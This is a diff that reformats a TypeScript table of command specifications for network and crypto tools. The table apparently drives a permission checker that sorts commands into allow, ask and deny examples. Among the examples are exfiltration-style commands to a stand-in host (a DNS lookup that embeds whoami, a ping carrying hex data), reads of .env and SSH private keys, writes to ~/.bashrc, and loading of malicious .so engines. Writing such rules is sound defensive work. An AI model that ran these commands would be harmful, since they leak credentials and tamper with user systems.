@@ -8,15 +8,22 @@ export const networkTools: readonly CommandSpec[] = [
   {
     names: "dig delv host nslookup drill kdig",
     summary: "asks name servers",
-    options: rows("-4; -6; -a; -b=text; -C; -c=text; -d; -f=read; -i; -k=read; -m; -p=text; -q=text; -r; -s; -t=text; -u; -v; -W=text; -w; -x=text; -y=text; -T; -V; -l; -N=text; -R=text; -D"),
+    options: rows(
+      "-4; -6; -a; -b=text; -C; -c=text; -d; -f=read; -i; -k=read; -m; -p=text; -q=text; -r; -s; -t=text; -u; -v; -W=text; -w; -x=text; -y=text; -T; -V; -l; -N=text; -R=text; -D",
+    ),
     operands: "text*",
     effects: "net",
-    examples: { ask: ["dig example.com", "dig $(whoami).evil.example", "host example.com", "nslookup example.com", "dig +short MX example.com"], deny: ["dig -f .env"] },
+    examples: {
+      ask: ["dig example.com", "dig $(whoami).evil.example", "host example.com", "nslookup example.com", "dig +short MX example.com"],
+      deny: ["dig -f .env"],
+    },
   },
   {
     names: "whois",
     summary: "asks registries",
-    options: rows("-h --host=host; -p --port=text; -I; -H; --verbose; --no-recursion; -a; -b; -c; -d; -i=text; -l; -m; -r; -R; -x; --help -> stop; --version -> stop"),
+    options: rows(
+      "-h --host=host; -p --port=text; -I; -H; --verbose; --no-recursion; -a; -b; -c; -d; -i=text; -l; -m; -r; -R; -x; --help -> stop; --version -> stop",
+    ),
     operands: "host*",
     effects: "net",
     examples: { allow: ["whois --version"], ask: ["whois example.com", "whois -h evil.example data"] },
@@ -30,32 +37,54 @@ export const networkTools: readonly CommandSpec[] = [
     ),
     operands: "host text*",
     effects: "net",
-    examples: { ask: ["ping -c1 example.com", "ping -c1 -p 68656c6c6f evil.example", "traceroute example.com", "mtr --report example.com"] },
+    examples: {
+      ask: ["ping -c1 example.com", "ping -c1 -p 68656c6c6f evil.example", "traceroute example.com", "mtr --report example.com"],
+    },
   },
   {
     names: "nmap masscan",
     summary: "scans hosts and ports",
-    options: rows("-sn; -sS; -sT; -sU; -sV; -sL; -Pn; -p=text; -F; -A; -O; -n; -R; -v; -vv; -T0; -T1; -T2; -T3; -T4; -T5; -6; --open; --reason; --top-ports=text; -oN=write; -oX=write; -oG=write; -V -> stop; -h -> stop", "# run scripts or read lists: --script -sC -iL -oA --datadir"),
+    options: rows(
+      "-sn; -sS; -sT; -sU; -sV; -sL; -Pn; -p=text; -F; -A; -O; -n; -R; -v; -vv; -T0; -T1; -T2; -T3; -T4; -T5; -6; --open; --reason; --top-ports=text; -oN=write; -oX=write; -oG=write; -V -> stop; -h -> stop",
+      "# run scripts or read lists: --script -sC -iL -oA --datadir",
+    ),
     style: "bsd",
     operands: "host*",
     effects: "net",
-    examples: { allow: ["nmap -V"], ask: ["nmap -sV example.com", "nmap --script ./evil.nse localhost", "nmap -oN out localhost", "nmap -iL list"], deny: ["nmap -oN ~/.bashrc localhost"] },
+    examples: {
+      allow: ["nmap -V"],
+      ask: ["nmap -sV example.com", "nmap --script ./evil.nse localhost", "nmap -oN out localhost", "nmap -iL list"],
+      deny: ["nmap -oN ~/.bashrc localhost"],
+    },
   },
   {
     names: "tcpdump tshark dumpcap",
     summary: "records network traffic",
-    options: rows("-i=text; -n; -nn; -c=text; -v; -vv; -vvv; -e; -q; -t; -tt; -ttt; -tttt; -A; -x; -X; -XX; -S; -s=text; -r=read; -D -> stop; -w=write; -l; -U; -p; -K; -N; -O; --version -> stop; -h --help -> stop", "# runs a program, names files: -z -F -V -G -C -W -Z"),
+    options: rows(
+      "-i=text; -n; -nn; -c=text; -v; -vv; -vvv; -e; -q; -t; -tt; -ttt; -tttt; -A; -x; -X; -XX; -S; -s=text; -r=read; -D -> stop; -w=write; -l; -U; -p; -K; -N; -O; --version -> stop; -h --help -> stop",
+      "# runs a program, names files: -z -F -V -G -C -W -Z",
+    ),
     operands: "text*",
     effects: "system network",
-    examples: { allow: ["tcpdump --version"], ask: ["tcpdump -i eth0", "tcpdump -z ./evil -w x -G 1", "tcpdump -r a.pcap"], deny: ["tcpdump -w ~/.bashrc", "tcpdump -r .env"] },
+    examples: {
+      allow: ["tcpdump --version"],
+      ask: ["tcpdump -i eth0", "tcpdump -z ./evil -w x -G 1", "tcpdump -r a.pcap"],
+      deny: ["tcpdump -w ~/.bashrc", "tcpdump -r .env"],
+    },
   },
   {
     names: "ip",
     summary: "shows and sets addresses, links and routes",
     style: "posix",
-    options: rows("-V -Version --Version -> stop; -h -human -human-readable; -s -stats -statistics; -d -details; -4; -6; -B; -M; -0; -o -oneline; -r -resolve; -t -timestamp; -ts -tshort; -a -all; -c -color[=text]; -br -brief; -j -json; -p -pretty; -N -Numeric; -f -family=text", "# another namespace, batches: -n -netns -b -batch -force -rc -l"),
+    options: rows(
+      "-V -Version --Version -> stop; -h -human -human-readable; -s -stats -statistics; -d -details; -4; -6; -B; -M; -0; -o -oneline; -r -resolve; -t -timestamp; -ts -tshort; -a -all; -c -color[=text]; -br -brief; -j -json; -p -pretty; -N -Numeric; -f -family=text",
+      "# another namespace, batches: -n -netns -b -batch -force -rc -l",
+    ),
     subcommands: {
-      "address|addr|a|link|l|route|r|ro|rule|ru|neighbour|neighbor|neigh|n|maddress|maddr|netns|tunnel|tuntap|token": { operands: "", examples: { allow: ["ip a", "ip -br link", "ip r", "ip -4 addr"], ask: ["ip link set eth0 down", "ip netns exec x sh"] } },
+      "address|addr|a|link|l|route|r|ro|rule|ru|neighbour|neighbor|neigh|n|maddress|maddr|netns|tunnel|tuntap|token": {
+        operands: "",
+        examples: { allow: ["ip a", "ip -br link", "ip r", "ip -4 addr"], ask: ["ip link set eth0 down", "ip netns exec x sh"] },
+      },
       "address show|addr show|a show|a s|addr sh|address list|addr list|a list|a l|link show|l show|link sh|link list|link ls|l l|route show|r show|route list|r s|r l|rule show|rule list|neighbour show|neighbor show|neigh show|neigh list|n show|maddr show|route get|r get|r g|netns list|tunnel show|token list":
         { style: "none", operands: "text*", examples: { allow: ["ip addr show dev eth0", "ip route get 1.1.1.1", "ip link show up"] } },
     },
@@ -93,7 +122,11 @@ export const networkTools: readonly CommandSpec[] = [
       "# another namespace: -N --net",
     ),
     operands: "text*",
-    examples: { allow: ["ss -tlnp", "ss -s", "ss -t state established"], ask: ["ss -K dst 1.2.3.4", "ss -D out", "ss -N x"], deny: ["ss -F .env", "ss -D ~/.bashrc"] },
+    examples: {
+      allow: ["ss -tlnp", "ss -s", "ss -t state established"],
+      ask: ["ss -K dst 1.2.3.4", "ss -D out", "ss -N x"],
+      deny: ["ss -F .env", "ss -D ~/.bashrc"],
+    },
   },
   {
     names: "netstat",
@@ -109,9 +142,15 @@ export const networkTools: readonly CommandSpec[] = [
   {
     names: "iptables ip6tables iptables-legacy iptables-nft",
     summary: "shows and sets the packet filter",
-    options: rows("-L --list; -S --list-rules; -n --numeric; -v --verbose; -x --exact; --line-numbers; -t --table=text; -w --wait; -V --version -> stop; -h --help -> stop", "# everything else sets"),
+    options: rows(
+      "-L --list; -S --list-rules; -n --numeric; -v --verbose; -x --exact; --line-numbers; -t --table=text; -w --wait; -V --version -> stop; -h --help -> stop",
+      "# everything else sets",
+    ),
     operands: "text? text?",
-    examples: { allow: ["iptables -L -n -v", "iptables -t nat -S", "iptables --list INPUT"], ask: ["iptables -F", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP"] },
+    examples: {
+      allow: ["iptables -L -n -v", "iptables -t nat -S", "iptables --list INPUT"],
+      ask: ["iptables -F", "iptables -A INPUT -j DROP", "iptables -P INPUT DROP"],
+    },
   },
   {
     names: "openssl",
@@ -120,15 +159,27 @@ export const networkTools: readonly CommandSpec[] = [
     style: "words",
     subcommands: {
       "version|ciphers|list|errstr|help": {
-        options: rows("-a; -v; -V; -d; -b; -o; -f; -p; -s; -tls1_2; -tls1_3; -commands; -digest-commands; -cipher-commands; -public-key-algorithms; -stdname; -psk"),
+        options: rows(
+          "-a; -v; -V; -d; -b; -o; -f; -p; -s; -tls1_2; -tls1_3; -commands; -digest-commands; -cipher-commands; -public-key-algorithms; -stdname; -psk",
+        ),
         operands: "text*",
         examples: { allow: ["openssl version", "openssl version -a", "openssl ciphers -v", "openssl list -commands"] },
       },
-      rand: { options: rows("-hex; -base64; -out=write"), operands: "text?", examples: { allow: ["openssl rand -hex 16"], ask: ["openssl rand -out key 32"], deny: ["openssl rand -out ~/.bashrc 32"] } },
+      rand: {
+        options: rows("-hex; -base64; -out=write"),
+        operands: "text?",
+        examples: { allow: ["openssl rand -hex 16"], ask: ["openssl rand -out key 32"], deny: ["openssl rand -out ~/.bashrc 32"] },
+      },
       "dgst|sha1|sha224|sha256|sha384|sha512|md5": {
-        options: rows("-sha1; -sha224; -sha256; -sha384; -sha512; -md5; -sha3-256; -hex; -binary; -r; -c; -out=write; -hmac=text; -verify=read; -signature=read; -sign=read; -keyform=text"),
+        options: rows(
+          "-sha1; -sha224; -sha256; -sha384; -sha512; -md5; -sha3-256; -hex; -binary; -r; -c; -out=write; -hmac=text; -verify=read; -signature=read; -sign=read; -keyform=text",
+        ),
         operands: "read*",
-        examples: { allow: ["openssl dgst -sha256 a.txt", "openssl md5 a.txt"], ask: ["openssl dgst -engine ./evil.so a.txt", "openssl dgst -out x a.txt"], deny: ["openssl dgst -sha256 .env"] },
+        examples: {
+          allow: ["openssl dgst -sha256 a.txt", "openssl md5 a.txt"],
+          ask: ["openssl dgst -engine ./evil.so a.txt", "openssl dgst -out x a.txt"],
+          deny: ["openssl dgst -sha256 .env"],
+        },
       },
       "x509|req|crl|pkcs7|asn1parse|verify|rsa|ec|ecparam|dsa|pkey|pkcs8|dhparam|ts": {
         options: rows(
@@ -137,16 +188,33 @@ export const networkTools: readonly CommandSpec[] = [
           "-length=text; -strparse=text; -name=text; -list_curves; -conv_form=text; -partial_chain; -show_chain",
         ),
         operands: "read*",
-        examples: { allow: ["openssl x509 -inform der -in a.der -noout -text", "openssl verify a.der", "openssl asn1parse -in a.der"], ask: ["openssl x509 -in a -out b", "openssl req -new -x509 -keyout k", "openssl x509 -in a -CA ca -CAcreateserial"], deny: ["openssl rsa -in ~/.ssh/id_rsa", "openssl x509 -in .env"] },
+        examples: {
+          allow: ["openssl x509 -inform der -in a.der -noout -text", "openssl verify a.der", "openssl asn1parse -in a.der"],
+          ask: ["openssl x509 -in a -out b", "openssl req -new -x509 -keyout k", "openssl x509 -in a -CA ca -CAcreateserial"],
+          deny: ["openssl rsa -in ~/.ssh/id_rsa", "openssl x509 -in .env"],
+        },
       },
       "enc|base64|aes-256-cbc|aes-128-cbc|aes-256-gcm": {
-        options: rows("-d; -e; -a; -base64; -A; -in=read; -out=write; -salt; -nosalt; -p; -P; -v; -pbkdf2; -iter=text; -md=text; -aes-256-cbc; -aes-128-cbc; -k=text; -K=text; -iv=text; -S=text; -none; -nopad"),
+        options: rows(
+          "-d; -e; -a; -base64; -A; -in=read; -out=write; -salt; -nosalt; -p; -P; -v; -pbkdf2; -iter=text; -md=text; -aes-256-cbc; -aes-128-cbc; -k=text; -K=text; -iv=text; -S=text; -none; -nopad",
+        ),
         operands: "",
-        examples: { allow: ["openssl base64 -in a.txt", "openssl enc -base64 -in a.txt"], ask: ["openssl enc -in x -out y", "openssl enc -engine ./evil.so -in a.txt", "openssl enc -aes-256-cbc -pass file:k -in a.txt"], deny: ["openssl enc -in .env", "openssl enc -in a.txt -out ~/.bashrc"] },
+        examples: {
+          allow: ["openssl base64 -in a.txt", "openssl enc -base64 -in a.txt"],
+          ask: ["openssl enc -in x -out y", "openssl enc -engine ./evil.so -in a.txt", "openssl enc -aes-256-cbc -pass file:k -in a.txt"],
+          deny: ["openssl enc -in .env", "openssl enc -in a.txt -out ~/.bashrc"],
+        },
       },
-      "s_client|s_time|ocsp": { operands: "refuse*", effects: "net", examples: { ask: ["openssl s_client -connect example.com:443", "openssl s_client example.com:443"] } },
+      "s_client|s_time|ocsp": {
+        operands: "refuse*",
+        effects: "net",
+        examples: { ask: ["openssl s_client -connect example.com:443", "openssl s_client example.com:443"] },
+      },
       s_server: { effects: "listen", operands: "", examples: { ask: ["openssl s_server -accept 4433"] } },
-      "genrsa|genpkey|passwd|speed|prime|ca|pkcs12|cms|smime|pkeyutl": { operands: "refuse*", examples: { ask: ["openssl genrsa 2048", "openssl genpkey -algorithm ed25519 -out k", "openssl smime -sign -in a"] } },
+      "genrsa|genpkey|passwd|speed|prime|ca|pkcs12|cms|smime|pkeyutl": {
+        operands: "refuse*",
+        examples: { ask: ["openssl genrsa 2048", "openssl genpkey -algorithm ed25519 -out k", "openssl smime -sign -in a"] },
+      },
     },
     examples: { none: ["openssl nonsense"] },
   },
@@ -161,7 +229,11 @@ export const networkTools: readonly CommandSpec[] = [
     ),
     operands: "text*",
     upkeep: ["write ~/.gnupg/**", "read ~/.gnupg/**"],
-    examples: { allow: ["gpg --list-keys", "gpg --verify a.sig a.txt", "gpg --version"], ask: ["gpg -d a.gpg", "gpg --export-secret-keys", "gpg --recv-keys X", "gpg --gen-key", "gpg --agent-program ./evil -K"], deny: ["gpg --verify .env"] },
+    examples: {
+      allow: ["gpg --list-keys", "gpg --verify a.sig a.txt", "gpg --version"],
+      ask: ["gpg -d a.gpg", "gpg --export-secret-keys", "gpg --recv-keys X", "gpg --gen-key", "gpg --agent-program ./evil -K"],
+      deny: ["gpg --verify .env"],
+    },
   },
   {
     names: "ssh-keygen",
@@ -169,7 +241,11 @@ export const networkTools: readonly CommandSpec[] = [
     // Making keys and loading providers (-D) is not listed.
     options: rows("-l; -B; -v; -E=text; -F=text; -f=read", "# make, change or load: -y -p -t -R -D -s -Y -H"),
     operands: "",
-    examples: { allow: ["ssh-keygen -l -f a.pub", "ssh-keygen -F example.com"], ask: ["ssh-keygen -D ./evil.so", "ssh-keygen -t ed25519 -f key", "ssh-keygen -R host", "ssh-keygen -y -f k"], deny: ["ssh-keygen -lf ~/.ssh/id_rsa"] },
+    examples: {
+      allow: ["ssh-keygen -l -f a.pub", "ssh-keygen -F example.com"],
+      ask: ["ssh-keygen -D ./evil.so", "ssh-keygen -t ed25519 -f key", "ssh-keygen -R host", "ssh-keygen -y -f k"],
+      deny: ["ssh-keygen -lf ~/.ssh/id_rsa"],
+    },
   },
   {
     names: "ssh-add",
